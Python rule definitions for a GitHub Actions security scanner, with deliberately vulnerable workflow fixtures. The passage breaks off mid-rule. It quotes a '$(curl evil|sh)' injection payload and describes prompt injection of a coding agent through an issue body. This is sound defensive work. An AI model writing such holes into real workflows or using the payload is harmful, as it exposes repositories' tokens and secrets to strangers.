"""GitHub Actions: what strangers can make a run do. Injection, triggers, foreign code, permissions, secrets, conditions."""

from __future__ import annotations

from ...finding import Example, Rule
from ..actions import checkout, conditions, foreign, injection, permissions, runners, secrets
from ..match import Custom, Keys, Replace
from ..predicates import is_true

WORKFLOW = ("github-workflow",)
BOTH = ("github-workflow", "github-action")
_SECURE_USE = "https://docs.github.com/en/actions/reference/security/secure-use"
_INJECTION = "https://docs.github.com/en/actions/concepts/security/script-injections"
_TOKEN = "https://docs.github.com/en/actions/tutorials/authenticate-with-github_token"  # noqa: S105
_PWN = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"


def job(on: str, body: str) -> str:
    """A workflow with one job whose lines are ``body``, indented to stand in it."""
    return f"on: {on}\npermissions: {{}}\njobs:\n  build:\n    runs-on: ubuntu-latest\n{body}"


def steps(on: str, body: str) -> Example:
    """A workflow with one job whose steps are ``body``."""
    return Example(job(on, f"    steps:\n{body}"))


RULES: tuple[Rule, ...] = (
    Rule(
        id="actions-script-injection",
        family="config",
        title="text that anyone can write becomes part of this script before it runs",
        severity="critical",
        tier="block",
        cwe=94,
        why="${{ … }} is replaced before the shell or interpreter sees the script: a pull request titled $(curl evil|sh) runs as code, with the job's token and secrets.",
        fix='Hand the text over in env: (env: TITLE: ${{ … }}) and use the variable in quotes ("$TITLE"); in github-script read context.payload or process.env.',
        match=Custom(BOTH, injection.by_strangers, ("run", "with")),
        equivalents=(
            "zizmor:template-injection",
            "kics:20f14e1a",
            "kics:62ff6823",
            "checkov:CKV_GHA_2",
            "semgrep:run-shell-injection",
            "semgrep:github-script-injection",
            "poutine:injection",
            "actionlint:expression",
            "scorecard:dangerous-workflow",
            "octoscan:expression-injection",
        ),
        references=(_INJECTION, "https://securitylab.github.com/resources/github-actions-untrusted-input/"),
        bad=(
            steps("issues", '      - run: echo "«${{ github.event.issue.title }}»"\n'),
            steps("pull_request_target", "      - run: |\n          git log\n          echo '«${{ github['head_ref'] }}»'\n"),
            steps(
                "issue_comment",
                "      - uses: actions/github-script@v7\n        with:\n          script: return '«${{ github.event.comment.body }}»'\n",
            ),
            steps(
                "pull_request",
                "      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo «${{ env.TITLE }}»\n",
            ),
            steps("discussion", "      - run: echo '«${{ toJSON(github.event) }}»'\n"),
            steps(
                "issues",
                '      - id: read\n        run: echo "title=${{ github.event.issue.number }} $T" >> "$GITHUB_OUTPUT"\n        env:\n'
                "          T: ${{ github.event.issue.title }}\n      - run: echo «${{ steps.read.outputs.title }}»\n",
            ),
            Example(
                "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    outputs:\n      body: ${{ github.event.issue.body }}\n    steps:\n      - run: 'true'\n"
                "  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo «${{ needs.a.outputs.body }}»\n"
            ),
            Example(
                "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo «${{ github.event.pull_request.head.ref }}»\n",
                "action.yml",
            ),
            steps(
                "issues",
                "      - id: parse\n        uses: actions/github-script@v7\n        with:\n          script: core.setOutput('title', context.payload.issue.title)\n"
                "      - run: echo «${{ steps.parse.outputs.title }}»\n",
            ),
            steps(
                "pull_request_target",
                '      - id: head\n        run: |\n          branch=${GITHUB_HEAD_REF#feature/}\n          echo "branch=$branch" >> "$GITHUB_OUTPUT"\n'
                "      - run: git log «${{ steps.head.outputs.branch }}»\n",
            ),
        ),
        good=(
            steps("issues", '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n'),
            steps("issues", "      - run: echo ${{ github.event.issue.number }} ${{ github.event.issue.user.login }}\n"),
            steps("issues", "      - run: echo ${{ contains(github.event.issue.title, 'bug') && 'yes' || 'no' }}\n"),
            steps(
                "issues", "      - uses: actions/stale@v9\n        with:\n          stale-issue-message: ${{ github.event.issue.title }}\n"
            ),
            steps("workflow_dispatch", "      - run: echo '${{ github.event.issue.title }}'\n"),
            steps(
                "pull_request_target",
                '      - id: head\n        run: |\n          branch=$(echo "$GITHUB_HEAD_REF" | sed \'s/[^a-z0-9]/-/g\')\n          echo "branch=$branch" >> "$GITHUB_OUTPUT"\n'
                "      - run: git log ${{ steps.head.outputs.branch }}\n",
            ),
        ),
    ),
    Rule(
        id="actions-tainted-input",
        family="config",
        title="text that anyone can write goes into an input that is run as code",
        severity="critical",
        tier="block",
        cwe=94,
        why="The called action or workflow of this repository writes the input into a script with ${{ inputs.… }}, so the text is code there.",
        fix="In the called file, hand the input over in env: and use it as a quoted variable.",
        match=Custom(BOTH, injection.into_local_code, ("with",)),
        equivalents=("zizmor:template-injection", "poutine:injection"),
        references=(_INJECTION,),
        bad=(
            Example(
                job(
                    "issues",
                    "    steps:\n      - uses: ./.github/actions/greet\n        with:\n          title: «${{ github.event.issue.title }}»\n",
                ),
                beside=(
                    (
                        ".github/actions/greet/action.yml",
                        "inputs: {title: {}}\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.title }}\n      shell: bash\n",
                    ),
                ),
            ),
            Example(
                "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    uses: ./.github/workflows/called.yml\n    with:\n      ref: «${{ github.head_ref }}»\n",
                beside=(
                    (
                        ".github/workflows/called.yml",
                        "on:\n  workflow_call:\n    inputs:\n      ref: {type: string}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: git switch ${{ inputs.ref }}\n",
                    ),
                ),
            ),
            Example(
                job(
                    "issues",
                    "    steps:\n      - uses: $/actions/outer\n        with:\n          title: «${{ github.event.issue.title }}»\n",
                ),
                beside=(
                    (
                        "actions/outer/action.yml",
                        "inputs: {title: {}}\nruns:\n  using: composite\n  steps:\n    - uses: $/actions/inner\n      with:\n        text: ${{ inputs.title }}\n",
                    ),
                    (
                        "actions/inner/action.yml",
                        "inputs: {text: {}}\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.text }}\n      shell: bash\n",
                    ),
                ),
            ),
        ),
        good=(
            Example(
                job(
                    "issues",
                    "    steps:\n      - uses: ./.github/actions/greet\n        with:\n          title: ${{ github.event.issue.title }}\n",
                ),
                beside=(
                    (
                        ".github/actions/greet/action.yml",
                        'inputs: {title: {}}\nruns:\n  using: composite\n  steps:\n    - run: echo "$T"\n      env: {T: "${{ inputs.title }}"}\n      shell: bash\n',
                    ),
                ),
            ),
        ),
    ),
    Rule(
        id="actions-input-injection",
        family="config",
        title="free text of a caller becomes part of this script before it runs",
        severity="high",
        tier="warn",
        cwe=94,
        confidence="medium",
        why="Inputs, branch and tag names and dispatch payloads are pasted into the script as code; whoever may start the run, push a branch or call this action decides what runs.",
        fix="Hand the value over in env: and use the variable in quotes; give inputs a type that is no free text (boolean, number, choice) where that fits.",
        match=Custom(BOTH, injection.by_callers, ("run", "with")),
        equivalents=(
            "zizmor:template-injection",
            "semgrep:run-shell-injection",
            "semgrep:github-script-injection",
            "poutine:injection",
            "kics:20f14e1a",
            "octoscan:expression-injection",
        ),
        references=(_INJECTION,),
        bad=(
            steps("push", "      - run: docker build -t app:«${{ github.ref_name }}» .\n"),
            Example(
                "inputs:\n  name:\n    required: true\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: hello «${{ inputs.name }}»\n",
                "action.yml",
            ),
            Example(
                "on:\n  workflow_dispatch:\n    inputs:\n      tag: {type: string}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: deploy «${{ github.event.inputs.tag }}»\n"
            ),
        ),
        good=(
            Example(
                "on:\n  workflow_dispatch:\n    inputs:\n      level: {type: choice, options: [a, b]}\n      dry: {type: boolean}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
                "    steps:\n      - run: deploy ${{ inputs.level }} ${{ inputs.dry }}\n"
            ),
            steps("push", '      - run: docker build -t "app:$GITHUB_REF_NAME" .\n        env:\n          TAG: ${{ github.ref_name }}\n'),
        ),
    ),
    Rule(
        id="actions-agent-prompt-injection",
        family="config",
        title="text that anyone can write becomes part of an agent's orders",
        severity="high",
        tier="warn",
        cwe=1427,
        why="An agent cannot tell its orders from the text it works on: an issue that says what to do next makes it use the job's token and tools for a stranger.",
        fix="Let the agent read the text itself, as data, with tools and a token that can do no harm (contents: read), and check what it wants to write.",
        match=Custom(BOTH, injection.prompts_by_strangers, ("with",)),
        references=("https://genai.owasp.org/llmrisk/llm01-prompt-injection/",),
        bad=(
            steps(
                "issues",
                "      - uses: anthropics/claude-code-action@v1\n        with:\n          prompt: |\n            Triage this issue:\n            «${{ github.event.issue.body }}»\n",
            ),
        ),
        good=(
            steps(
                "issues",
                "      - uses: anthropics/claude-code-action@v1\n        with:\n          prompt: Triage issue ${{ github.event.issue.number }}\n",
            ),
            steps("issues", "      - uses: acme/label@v1\n        with:\n          prompt: ${{ github.event.issue.body }}\n"),
        ),
    ),
    Rule(
        id="actions-agent-open-to-everybody",
        family="config",
        title="an agent takes orders from everybody",
        severity="high",
        tier="warn",
        cwe=862,
        why="With * the check is off that only people with write access may start the agent; its token and secrets then work for any account.",
        fix="Take the input out, or name the accounts that may give orders.",
        match=Custom(BOTH, injection.agents_for_everybody, ("with",)),
        references=("https://github.com/anthropics/claude-code-action/blob/main/docs/security.md",),
        bad=(steps("issues", "      - uses: anthropics/claude-code-action@v1\n        with:\n          allowed_non_write_users: «'*'»\n"),),
        good=(
            steps(
                "issues",
                "      - uses: anthropics/claude-code-action@v1\n        with:\n          allowed_non_write_users: ${{ vars.PEOPLE }}\n          allowed_bots: renovate\n",
            ),
        ),
    ),
    Rule(
        id="actions-template-in-script",
        family="config",
        title="an expression is written into a script",
        severity="low",
        tier="audit",
        cwe=94,
        confidence="low",
        why="What this expression gives is not decided in this file; as part of the script it is code, as an environment variable it is only text.",
        fix="Hand the value over in env: and use the variable in quotes.",
        match=Custom(BOTH, injection.by_others, ("run", "with")),
        equivalents=(
            "zizmor:template-injection",
            "kics:20f14e1a",
            "semgrep:run-shell-injection",
            "actionlint:expression",
            "octoscan:expression-injection",
        ),
        references=(_INJECTION,),
        bad=(
            steps("push", "      - run: echo «${{ github.event_name }}»\n"),
            steps("push", "      - run: deploy --token «${{ secrets.DEPLOY_TOKEN }}»\n"),
            steps("push", "      - run: echo «${{ steps.version.outputs.text }}»\n"),
        ),
        good=(
            steps("push", "      - run: echo ${{ github.run_id }} ${{ github.sha }} ${{ runner.os }}\n"),
            Example(
                "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        node: [20, 22]\n    steps:\n      - run: nvm use ${{ matrix.node }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-dangerous-trigger",
        family="config",
        title="this trigger lets changes of strangers meet the repository's secrets",
        severity="high",
        tier="warn",
        cwe=913,
        confidence="medium",
        why="pull_request_target and workflow_run run in the base repository with its secrets and, unless restricted, a writing token, on events that anyone can cause.",
        fix="Use pull_request where no secret is needed; otherwise never check out, build or download what the pull request brought, and set permissions: {}.",
        match=Custom(WORKFLOW, permissions.dangerous_triggers, ("on",)),
        equivalents=(
            "zizmor:dangerous-triggers",
            "scorecard:dangerous-workflow",
            "octoscan:debug-external-trigger",
        ),
        references=(_PWN, _SECURE_USE),
        bad=(
            Example(
                "on:\n  «pull_request_target»:\n    types: [opened]\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
            ),
            Example(
                "on: [push, «workflow_run»]\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
            ),
        ),
        good=(
            Example(
                "on:\n  pull_request:\npermissions: {}\njobs:\n  a:\n    if: ${{ github.event_name != 'pull_request_target' }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
            ),
        ),
    ),
    Rule(
        id="actions-untrusted-checkout",
        family="config",
        title="a stranger's code is checked out where the repository's secrets are",
        severity="critical",
        tier="block",
        cwe=829,
        why="Under pull_request_target, workflow_run, issues and comments the job has the base repository's token; any script, configuration or build file of the pull request that is used then runs with it.",
        fix="Build pull requests under pull_request, without secrets, and hand only data (never code) to a second workflow; or check out the base and read the change through the API.",
        match=Custom(WORKFLOW, foreign.untrusted_checkout, ("steps",)),
        equivalents=(
            "semgrep:pull-request-target-code-checkout",
            "semgrep:workflow-run-target-code-checkout",
            "poutine:untrusted_checkout_exec",
            "scorecard:dangerous-workflow",
            "octoscan:dangerous-checkout",
        ),
        references=(_PWN,),
        bad=(
            steps(
                "pull_request_target",
                "      - uses: actions/checkout@v4\n        with:\n          ref: «${{ github.event.pull_request.head.sha }}»\n",
            ),
            steps(
                "issue_comment",
                "      - uses: actions/checkout@v4\n        with:\n          ref: «refs/pull/${{ github.event.issue.number }}/merge»\n",
            ),
            steps(
                "workflow_run",
                "      - uses: actions/checkout@v4\n        with:\n          repository: «${{ github.event.workflow_run.head_repository.full_name }}»\n",
            ),
            steps(
                "issue_comment",
                '      - «run»: gh pr checkout "$NUMBER"\n        env:\n          NUMBER: ${{ github.event.issue.number }}\n',
            ),
            steps(
                "pull_request_target",
                '      - «run»: git checkout "$SHA"\n        env:\n          SHA: ${{ github.event.pull_request.head.sha }}\n',
            ),
        ),
        good=(
            steps(
                "pull_request_target",
                '      - run: git log "$SHA" && git checkout "$GITHUB_SHA"\n        env:\n          SHA: ${{ github.event.pull_request.head.sha }}\n',
            ),
            steps(
                "pull_request",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            ),
            steps(
                "pull_request_target",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.base.sha }}\n",
            ),
            Example(
                "on:\n  workflow_run:\n    workflows: [Release]\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
                "          ref: ${{ github.event.workflow_run.head_sha }}\n",
                beside=(
                    (
                        ".github/workflows/release.yml",
                        "name: Release\non:\n  push:\n    tags: ['v*']\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
                    ),
                ),
            ),
            Example(
                job(
                    "workflow_run",
                    "    if: github.event.workflow_run.event == 'push'\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
                    "          ref: ${{ github.event.workflow_run.head_sha }}\n",
                )
            ),
            Example(
                job(
                    "pull_request_target",
                    "    if: github.event.pull_request.head.repo.full_name == github.repository\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
                    "          ref: ${{ github.head_ref }}\n",
                )
            ),
        ),
    ),
    Rule(
        id="actions-write-all-permissions",
        family="config",
        title="the job's token may write everything",
        severity="high",
        tier="block",
        cwe=732,
        why="With write-all, any action or dependency that is compromised can push code, make releases and change workflows.",
        fix="Write permissions: {} at the top and give each job only what it needs, such as contents: read.",
        match=Custom(WORKFLOW, permissions.write_all, ("permissions",)),
        equivalents=("zizmor:excessive-permissions", "kics:d946b13a", "checkov:CKV2_GHA_1", "scorecard:token-permissions"),
        references=(_TOKEN,),
        bad=(
            Example("on: push\npermissions: «write-all»\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"),
            Example(
                "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: «write-all»\n    steps:\n      - run: echo hi\n"
            ),
        ),
        good=(
            Example(
                "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }} write-all\n"
            ),
        ),
    ),
    Rule(
        id="actions-read-all-permissions",
        family="config",
        title="the job's token may read everything",
        severity="medium",
        tier="warn",
        cwe=732,
        why="read-all opens security alerts, packages and private content to every action of the job; few jobs need more than contents: read.",
        fix="Name what is read, such as contents: read.",
        match=Custom(WORKFLOW, permissions.read_all, ("permissions",)),
        equivalents=("zizmor:excessive-permissions",),
        references=(_TOKEN,),
        bad=(Example("on: push\npermissions: «read-all»\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"),),
        good=(
            Example(
                "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-shared-write-permission",
        family="config",
        title="several jobs share a permission to write",
        severity="medium",
        tier="warn",
        cwe=732,
        why="A permission at the top of the workflow goes to every job that names none itself: the job that runs tests of a pull request can then do what only the release needs.",
        fix="Set permissions: {} at the top and the write permission at the one job that needs it.",
        match=Custom(WORKFLOW, permissions.shared_write, ("permissions",)),
        equivalents=("zizmor:excessive-permissions", "kics:d946b13a", "scorecard:token-permissions"),
        references=(_TOKEN,),
        bad=(
            Example(
                "on: push\npermissions:\n  «contents»: write\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
                "  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n"
            ),
        ),
        good=(
            Example(
                "on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test ${{ github.sha }}\n"
                "  release:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n"
            ),
        ),
    ),
    Rule(
        id="actions-workflow-write-permission",
        family="config",
        title="a permission to write stands at the top of the workflow",
        severity="low",
        tier="audit",
        cwe=732,
        why="It is right for the one job there is now; the next job gets it, too, without anybody deciding so.",
        fix="Move the permission into the job and set permissions: {} at the top.",
        match=Custom(WORKFLOW, permissions.single_write, ("permissions",)),
        equivalents=("zizmor:excessive-permissions",),
        references=(_TOKEN,),
        bad=(
            Example(
                "on: push\npermissions:\n  «contents»: write\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n"
            ),
        ),
        good=(
            Example(
                "on: push\npermissions:\n  contents: read # write is for the job\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n"
            ),
            Example(
                "on: push\npermissions: {}\njobs:\n  release:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: make ${{ github.sha }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-default-permissions-for-strangers",
        family="config",
        title="a job that strangers can start has no permissions: of its own",
        severity="medium",
        tier="warn",
        cwe=732,
        why="Without permissions: the token has the repository's default, which in many repositories is to write everything, and this event can be caused by anyone.",
        fix="Add permissions: at the top or at the job, with what it needs and no more; permissions: {} is a good start.",
        match=Custom(WORKFLOW, permissions.default_permissions_risky, ("jobs",)),
        equivalents=(
            "poutine:default_permissions_on_risky_events",
            "zizmor:excessive-permissions",
            "checkov:CKV2_GHA_1",
            "kics:d946b13a",
            "scorecard:token-permissions",
        ),
        references=(_TOKEN,),
        bad=(Example("on: issue_comment\njobs:\n  «greet»:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"),),
        good=(
            Example(
                "on: issue_comment\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }}\n"
            ),
            Example(
                "on: issue_comment\njobs:\n  greet:\n    permissions:\n      issues: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
            ),
        ),
    ),
    Rule(
        id="actions-default-permissions",
        family="config",
        title="this job runs with the repository's default permissions",
        severity="low",
        tier="audit",
        cwe=732,
        why="The default may be to write everything, and whoever changes the default changes this job.",
        fix="Add permissions: at the top or at the job, with what it needs and no more.",
        match=Custom(WORKFLOW, permissions.default_permissions, ("jobs",)),
        equivalents=("zizmor:excessive-permissions", "checkov:CKV2_GHA_1", "kics:d946b13a", "scorecard:token-permissions"),
        references=(_TOKEN,),
        bad=(
            Example("on: push\njobs:\n  «test»:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"),
            Example("on: workflow_call\njobs:\n  «call»:\n    uses: ./.github/workflows/other.yml\n"),
        ),
        good=(
            Example(
                "on: push\njobs:\n  test:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: make ${{ github.sha }}\n"
            ),
            Example("on: workflow_call\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"),
        ),
    ),
    Rule(
        id="actions-undocumented-permission",
        family="config",
        title="nothing says what this permission is for",
        severity="info",
        tier="audit",
        cwe=732,
        why="A permission that nobody can explain is never taken away again.",
        fix="Say in a comment beside it what needs the permission.",
        match=Custom(WORKFLOW, permissions.undocumented_permissions, ("permissions",)),
        equivalents=("zizmor:undocumented-permissions",),
        references=(_TOKEN,),
        bad=(
            Example(
                "on: push\njobs:\n  a:\n    permissions:\n      «issues»: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
            ),
        ),
        good=(
            Example(
                "on: push\njobs:\n  a:\n    permissions:\n      contents: read\n      issues: write # to open one a failure\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-persisted-credentials",
        family="config",
        title="the checkout leaves its token behind",
        severity="medium",
        tier="warn",
        cwe=522,
        why="Every later step, with every dependency that it runs, can read the token from .git/config (since v6 from a file beside the workspace), and so can whoever gets an artefact with .git in it. A token that may only read, or with which a later step pushes, weighs little and is shown at tier audit.",
        fix="Set persist-credentials: false, or give the job no permission to write; hand a token of your own only to the step that needs it.",
        match=Custom(BOTH, checkout.persisted_credentials, ("steps",)),
        equivalents=("zizmor:artipacked",),
        references=("https://github.com/actions/checkout#usage", "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/"),
        bad=(
            Example(
                "on: push\npermissions: {contents: write}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - «uses: actions/checkout@v4»\n      - run: npm test\n"
            ),
            steps("push", "      - «uses: actions/checkout@v4»\n        with:\n          token: ${{ secrets.BOT_TOKEN }}\n"),
            steps("push", "      - «uses: actions/checkout@v4»\n"),
            steps("push", "      - «name: Get\n        uses: actions/checkout@v4»\n        with:\n          fetch-depth: 0\n"),
            steps("push", "      - «uses: actions/checkout@v4»\n        with:\n          persist-credentials: true\n"),
        ),
        good=(
            steps("push", "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n"),
            steps(
                "push",
                "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: ${{ github.ref == 'refs/heads/main' }}\n",
            ),
        ),
    ),
    Rule(
        id="actions-secrets-inherit",
        family="config",
        title="the called workflow gets every secret",
        severity="medium",
        tier="warn",
        cwe=522,
        why="secrets: inherit hands over all secrets of repository and organisation, whatever the called workflow needs now or asks for later.",
        fix="Name the secrets that the called workflow needs: secrets: {TOKEN: ${{ secrets.TOKEN }}}.",
        match=Custom(WORKFLOW, secrets.secrets_inherit, ("secrets",)),
        equivalents=("zizmor:secrets-inherit",),
        references=("https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows",),
        bad=(Example("on: push\npermissions: {}\njobs:\n  call:\n    uses: ./.github/workflows/deploy.yml\n    secrets: «inherit»\n"),),
        good=(
            Example(
                "on: push\npermissions: {}\njobs:\n  call:\n    uses: ./.github/workflows/deploy.yml\n    secrets:\n      TOKEN: ${{ secrets.TOKEN }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-all-secrets",
        family="config",
        title="an expression reads all secrets at once",
        severity="high",
        tier="block",
        cwe=522,
        why="toJSON(secrets), secrets.* and secrets[…] put every secret of the repository into one value; one log, action or dependency is enough to lose them all.",
        fix="Name each secret that is needed: ${{ secrets.NAME }}.",
        match=Custom(BOTH, secrets.all_secrets),
        equivalents=("zizmor:overprovisioned-secrets", "poutine:job_all_secrets"),
        references=(_SECURE_USE,),
        bad=(
            steps("push", "      - run: ./deploy\n        env:\n          ALL: ${{ «toJSON(secrets)» }}\n"),
            steps("push", "      - run: ./deploy\n        env:\n          KEY: ${{ «secrets[format('KEY_{0}', matrix.env)]» }}\n"),
            steps("push", "      - run: ./deploy\n        env:\n          KEY: ${{ join(«secrets.*», ' ') }}\n"),
        ),
        good=(
            steps(
                "push", "      - run: ./deploy\n        env:\n          KEY: ${{ secrets.KEY }}\n          OTHER: ${{ secrets['OTHER'] }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-unredacted-secret",
        family="config",
        title="a part of a secret is used, which logs do not mask",
        severity="medium",
        tier="warn",
        cwe=532,
        why="Only a secret as a whole is masked in logs; what fromJSON takes out of it is printed in clear.",
        fix="Keep each part as a secret of its own.",
        match=Custom(BOTH, secrets.unredacted_secret),
        equivalents=("zizmor:unredacted-secrets",),
        references=(_SECURE_USE,),
        bad=(
            steps("push", "      - run: ./deploy\n        env:\n          USER: ${{ «fromJSON(secrets.ACCOUNT)».user }}\n"),
            steps("push", "      - run: ./deploy\n        env:\n          USER: ${{ «fromJSON(secrets.ACCOUNT || '{}')»['user'] }}\n"),
        ),
        good=(
            steps(
                "push",
                "      - run: ./deploy\n        env:\n          USER: ${{ secrets.ACCOUNT_USER }}\n          N: ${{ fromJSON(vars.LIST)[0] }}\n",
            ),
        ),
    ),
    Rule(
        id="actions-secret-outside-environment",
        family="config",
        title="a secret is used in a job without an environment",
        severity="info",
        tier="audit",
        cwe=284,
        why="A secret of the repository is open to every workflow and branch; one of an environment can be held back to branches and reviewers.",
        fix="Move the secret into an environment and name it at the job: environment: production.",
        match=Custom(WORKFLOW, secrets.secret_outside_environment),
        equivalents=("zizmor:secrets-outside-env",),
        references=("https://docs.github.com/en/actions/reference/workflows-and-actions/deployments-and-environments",),
        bad=(steps("push", "      - run: ./deploy\n        env:\n          KEY: ${{ «secrets.KEY» }}\n"),),
        good=(
            Example(
                job(
                    "push",
                    "    environment: production\n    steps:\n      - run: ./deploy\n        env:\n          KEY: ${{ secrets.KEY }}\n",
                )
            ),
            steps("push", "      - run: gh pr list\n        env:\n          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n"),
            Example(
                "on: push\npermissions: {}\njobs:\n  a:\n    uses: ./.github/workflows/deploy.yml\n    secrets:\n      KEY: ${{ secrets.KEY }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-self-hosted-runner-for-strangers",
        family="config",
        title="events of strangers run on a machine of your own",
        severity="high",
        tier="warn",
        cwe=250,
        confidence="medium",
        why="In a public repository a pull request can run its code on this runner and stay there: in its caches, its tools and your network.",
        fix="Use hosted or just-in-time (ephemeral) runners for these events, or require approval for all outside contributors.",
        match=Custom(WORKFLOW, runners.self_hosted_for_strangers, ("runs-on",)),
        equivalents=(
            "zizmor:self-hosted-runner",
            "poutine:pr_runs_on_self_hosted",
            "octoscan:runner-label",
        ),
        references=(_SECURE_USE,),
        bad=(
            Example("on: pull_request\npermissions: {}\njobs:\n  a:\n    «runs-on»: [self-hosted, linux]\n    steps:\n      - run: make\n"),
            Example(
                "on: pull_request\npermissions: {}\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, self-hosted]\n    «runs-on»: ${{ matrix.os }}\n    steps:\n      - run: make\n"
            ),
            Example(
                "on: pull_request\npermissions: {}\njobs:\n  a:\n    «runs-on»: ${{ github.repository_owner == 'acme' && 'self-hosted' || 'ubuntu-latest' }}\n    steps:\n      - run: make\n"
            ),
        ),
        good=(
            Example(
                "on: pull_request\npermissions: {}\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, self-hosted]\n        exclude:\n          - os: self-hosted\n"
                "    runs-on: ${{ matrix.os }}\n    steps:\n      - run: make\n"
            ),
            Example("on: push\npermissions: {}\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n"),
            Example(
                "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ${{ vars.RUNNER == 'self-hosted' && 'ubuntu-22.04' || 'ubuntu-latest' }}\n    steps:\n      - run: make\n"
            ),
        ),
    ),
    Rule(
        id="actions-self-hosted-runner",
        family="config",
        title="this job runs on a machine of your own",
        severity="info",
        tier="audit",
        cwe=250,
        confidence="low",
        why="What one job leaves on a runner that is not thrown away is there for the next one.",
        fix="Use ephemeral runners, and groups that only the repositories that need them can use.",
        match=Custom(WORKFLOW, runners.self_hosted, ("runs-on",)),
        equivalents=(
            "zizmor:self-hosted-runner",
            "poutine:pr_runs_on_self_hosted",
            "octoscan:runner-label",
        ),
        references=(_SECURE_USE,),
        bad=(
            Example("on: push\npermissions: {}\njobs:\n  a:\n    «runs-on»: [self-hosted, linux]\n    steps:\n      - run: make\n"),
            Example("on: push\npermissions: {}\njobs:\n  a:\n    «runs-on»:\n      group: builders\n    steps:\n      - run: make\n"),
        ),
        good=(
            Example(
                "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - run: make self-hosted\n"
            ),
        ),
    ),
    Rule(
        id="actions-broad-app-token",
        family="config",
        title="the token of a GitHub App reaches further than this job needs",
        severity="medium",
        tier="warn",
        cwe=732,
        why="Without repositories and permission-* inputs the token can do all that the app may do wherever it is installed.",
        fix="Name repositories and permission-* inputs (such as permission-contents: read), and leave skip-token-revoke out.",
        match=Custom(BOTH, secrets.broad_app_token, ("uses",)),
        equivalents=("zizmor:github-app",),
        references=("https://github.com/actions/create-github-app-token",),
        bad=(
            steps(
                "push",
                "      - uses: «actions/create-github-app-token@v2»\n        with:\n          app-id: ${{ vars.APP }}\n          private-key: ${{ secrets.KEY }}\n",
            ),
            steps(
                "push",
                "      - uses: actions/create-github-app-token@v2\n        with:\n          app-id: ${{ vars.APP }}\n          permission-contents: read\n          skip-token-revoke: «true»\n",
            ),
        ),
        good=(
            steps(
                "push",
                "      - uses: actions/create-github-app-token@v2\n        with:\n          app-id: ${{ vars.APP }}\n          owner: acme\n          repositories: site\n          permission-contents: read\n",
            ),
